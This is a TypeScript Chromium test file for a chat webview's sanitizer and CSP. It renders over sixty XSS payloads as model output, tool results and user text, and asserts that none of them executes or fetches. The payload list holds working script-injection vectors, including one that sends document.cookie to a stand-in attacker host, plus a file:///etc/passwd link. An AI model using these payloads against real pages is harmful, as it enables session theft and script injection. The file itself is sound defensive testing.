// Hostile model output and tool results in the chat webview (real Chromium, the real CSP and sanitizer):
// every payload must execute nothing — no dialog, no script node, no event-handler attribute, no
// javascript:/data: link, no network request — and still show as readable text where it is text.
import { strict as assert } from "node:assert";
import { after, before, describe, test } from "node:test";
import type { HostMessage, TranscriptItem } from "../../src/shared/contract";
import { openWebview, type Harness } from "../support/webview-harness";

const A = "https://attacker.invalid";
/** Each one tries to run `window.__xss = …`, open a dialog, or load something from the attacker. */
export const PAYLOADS: string[] = [
  `<script>window.__xss=1</script>`,
  `<img src=x onerror="window.__xss=2">`,
  `<svg onload=window.__xss=3>`,
  `[click](javascript:window.__xss=4)`,
  `[click](JAVASCRIPT:alert(5))`,
  `[x](  javascript:alert(6))`,
  `[x](java&#x09;script:alert(7))`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==)`,
  `[x](vbscript:msgbox(9))`,
  `![img](javascript:alert(10))`,
  `![img](${A}/beacon.png)`,
  `<iframe src="javascript:alert(12)"></iframe>`,
  `<a href="javascript:alert(13)">raw html link</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>`,
  `<details open ontoggle=alert(15)>`,
  `<body onload=alert(16)>`,
  `<input autofocus onfocus=alert(17)>`,
  `<object data="javascript:alert(18)"></object>`,
  `<embed src=javascript:alert(19)>`,
  `<form action=javascript:alert(20)><button>go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(21)">`,
  `<link rel=stylesheet href=${A}/x.css>`,
  `<style>@import '${A}/y.css'; body{background:url(${A}/z.png)}</style>`,
  `<base href="javascript:alert(24)//">`,
  "`<img src=x onerror=alert(25)>` in inline code",
  "```\n</code></pre><img src=x onerror=alert(26)>\n```",
  '```"><img src=x onerror=alert(27)>\ncode\n```',
  `[a](https://example.com "title\\" onmouseover=\\"alert(28)")`,
  `<https://example.com/"onmouseover="alert(29)>`,
  `javascript:alert(30) as a bare word`,
  `[x](&#106;avascript:alert(31))`,
  `[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(32))`,
  `<svg><script>alert(33)</script></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(34)>">`,
  `<template><img src=x onerror=alert(35)></template>`,
  `<video><source onerror=alert(36)></video>`,
  `<audio src=x onerror=alert(37)>`,
  `<marquee onstart=alert(38)>m</marquee>`,
  `<div style="background:url(${A}/bg.png)">styled</div>`,
  `<a href="data:text/html,<script>alert(40)</script>">d</a>`,
  `[ref][evil]\n\n[evil]: javascript:alert(41)`,
  `<scr<script>ipt>alert(42)</scr</script>ipt>`,
  `"><script>alert(43)</script>`,
  `'><img src=x onerror=alert(44)>`,
  `<img src="x" onerror="fetch('${A}/?'+document.cookie)">`,
  `<svg><a xlink:href="javascript:alert(46)"><text x="0" y="10">svg link</text></a></svg>`,
  `<math href="javascript:alert(47)">math</math>`,
  `<form><button formaction=javascript:alert(48)>x</button></form>`,
  `<img srcset="${A}/a.png 1x">`,
  `<picture><source srcset="${A}/b.png"><img></picture>`,
  `<script src="${A}/x.js"></script>`,
  "{{constructor.constructor('window.__xss=52')()}} ${window.__xss=52}",
  `<img src=x:alert(alt) onerror=eval(src) alt=53>`,
  `<iframe srcdoc="<script>parent.__xss=54</script>"></iframe>`,
  `<svg><animate onbegin=alert(55) attributeName=x dur=1s>`,
  `[x](file:///etc/passwd)`,
  `[x](command:workbench.action.terminal.new)`,
  `<a href="vscode://krabkrab.krabkrab-vscode/evil">deep link</a>`,
  `[x](https://example.com/%22%3E%3Cscript%3Ealert(59)%3C/script%3E)`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#54;&#48;&#41;>`,
  `\u003cimg src=x onerror=alert(61)\u003e`,
  `<svg><foreignObject><iframe src="javascript:alert(62)"></iframe></foreignObject></svg>`,
];

function itemsFor(p: string, i: number): TranscriptItem[] {
  return [
    { id: `x:a:${i}`, role: "assistant", runId: `x${i}`, status: "final", text: `payload ${i}: ${p}`, thinking: p },
    {
      id: `x:t:${i}`,
      role: "assistant",
      runId: `xt${i}`,
      status: "error",
      text: "",
      error: p,
      tools: [{ toolCallId: `tc${i}`, name: p, args: { cmd: p, [p]: p }, result: p, isError: i % 2 === 0, phase: "result" }],
    },
    { id: `x:u:${i}`, role: "user", status: "sent", text: p },
  ];
}

const chat = (items: TranscriptItem[]): HostMessage => ({ type: "chat", chat: { sessionKey: "agent:main:main", items, hasMore: false, activeRunId: null } });

/** Everything in the document that could execute or fetch. */
async function audit(h: Harness) {
  return h.page.evaluate(() => {
    const all = [...document.querySelectorAll("*")];
    const onAttrs = all.flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName}[${a.name}]`));
    const badUrls = all.flatMap((el) => [...el.attributes].filter((a) => /^\s*(javascript|vbscript|data:text)/i.test(a.value) || (/^(href|src|srcset|action|formaction|xlink:href|data|poster|background)$/i.test(a.name) && !/^(https?:|mailto:|blob:|#)/i.test(a.value) && !(el.tagName === "LINK" || el.tagName === "SCRIPT"))).map((a) => `${el.tagName}[${a.name}=${a.value.slice(0, 40)}]`));
    const links = [...document.querySelectorAll("#transcript a[href]")].map((a) => a.getAttribute("href")!).filter((h) => !/^(https?:|mailto:)/i.test(h));
    const transcript = document.getElementById("transcript")!;
    const forbidden = [...transcript.querySelectorAll("script, iframe, object, embed, img, svg, math, form, input, meta, base, link, style, video, audio, picture, source, template, noscript, marquee")].map((e) => e.tagName);
    return {
      // The page's own scripts are the chat bundle and the model picker it loads (main-chat.js, main-models.js).
      scripts: [...document.querySelectorAll("script")].filter((e) => !/\/dist\/webview\/main-(chat|models)\.js$/.test((e as HTMLScriptElement).src) || !(e as HTMLScriptElement).nonce).length,
      onAttrs,
      badUrls,
      links,
      forbidden,
      xss: (window as unknown as { __xss?: unknown }).__xss,
    };
  });
}

describe("XSS payloads in model output and tool results (Chromium)", () => {
  let h: Harness;
  before(async () => {
    h = await openWebview("chat", { viewport: { width: 500, height: 1000 } });
    await h.post({ type: "connection", connection: { status: "connected" } });
  });
  after(async () => {
    await h?.close();
  });

  test(`there are at least 50 payloads (${PAYLOADS.length})`, () => {
    assert.ok(PAYLOADS.length >= 50);
  });

  test("each payload as a reply, thinking, error, tool name/args/result and user text executes nothing", async () => {
    for (let i = 0; i < PAYLOADS.length; i++) {
      const items = itemsFor(PAYLOADS[i]!, i);
      await h.post(chat(items));
      // Every row of this payload is in the DOM (the list is virtualized: keep batches to what fits).
      await h.page.waitForFunction((ids) => ids.every((id) => document.querySelector(`.msg[data-id="${CSS.escape(id)}"]`)), items.map((it) => it.id), { timeout: 10_000 });
      // Open every tool card so its contents are rendered and laid out too.
      await h.page.evaluate(() => document.querySelectorAll<HTMLElement & { open: boolean }>(".tool-card").forEach((c) => (c.open = true)));
      await h.page.waitForTimeout(30);
      const a = await audit(h);
      const where = `payload ${i}: ${PAYLOADS[i]}`;
      assert.equal(a.scripts, 0, `${where}: only our bundles' scripts may exist`);
      assert.deepEqual(a.onAttrs, [], where);
      assert.deepEqual(a.badUrls, [], where);
      assert.deepEqual(a.links, [], where);
      assert.deepEqual(a.forbidden, [], where);
      assert.equal(a.xss, undefined, where);
    }
    // Give anything deferred (timers, image errors, animations) a moment to fire.
    await h.page.waitForTimeout(500);
    assert.deepEqual(h.dialogs, []);
    assert.equal((await audit(h)).xss, undefined);
    assert.deepEqual(h.lateRequests, [], "no payload made the page fetch anything");
  });

  test("all payloads in one markdown reply, streamed in 20 whole-text steps, execute nothing", async () => {
    const full = PAYLOADS.map((p, i) => `### ${i}\n\n${p}\n`).join("\n");
    const steps = 20;
    const msgs: HostMessage[] = [chat([{ id: "run:big", role: "assistant", runId: "big", status: "streaming", text: "" }])];
    for (let s = 1; s <= steps; s++) msgs.push({ type: "chatPatch", patch: { sessionKey: "agent:main:main", upsert: [{ id: "run:big", role: "assistant", runId: "big", status: s === steps ? "final" : "streaming", text: full.slice(0, Math.ceil((full.length * s) / steps)) }], hasMore: false, activeRunId: s === steps ? null : "big" } });
    for (const m of msgs) {
      await h.post(m);
      await h.page.waitForTimeout(20);
    }
    await h.page.waitForSelector('.msg.final[data-run-id="big"]');
    await h.page.waitForTimeout(500);
    const a = await audit(h);
    assert.equal(a.scripts, 0);
    assert.deepEqual(a.onAttrs, []);
    assert.deepEqual(a.badUrls, []);
    assert.deepEqual(a.links, []);
    assert.deepEqual(a.forbidden, []);
    assert.equal(a.xss, undefined);
    assert.deepEqual(h.dialogs, []);
    assert.deepEqual(h.lateRequests, []);
    // The payloads are still there as visible text (escaped, not dropped).
    const text = (await h.page.textContent('.msg[data-run-id="big"] .body')) ?? "";
    assert.match(text, /<script>window\.__xss=1<\/script>/);
    assert.match(text, /onerror="window\.__xss=2"/);
  });

  test("clicking every link in hostile output only asks the host, and only for http(s)/mailto", async () => {
    const hrefs = await h.page.$$eval('.msg[data-run-id="big"] a', (as) => as.map((a) => a.getAttribute("href")));
    assert.ok(hrefs.length > 0);
    const n = h.received.length;
    const url = h.page.url();
    for (const a of await h.page.$$('.msg[data-run-id="big"] a')) await a.click({ modifiers: [] });
    await h.page.waitForTimeout(200);
    const opens = h.received.slice(n).filter((m) => m.type === "openLink");
    assert.ok(opens.every((m) => m.type === "openLink" && /^(https?:|mailto:)/.test(m.href)), JSON.stringify(opens));
    assert.equal(h.page.url(), url, "the webview never navigated");
    assert.deepEqual(h.dialogs, []);
  });
});
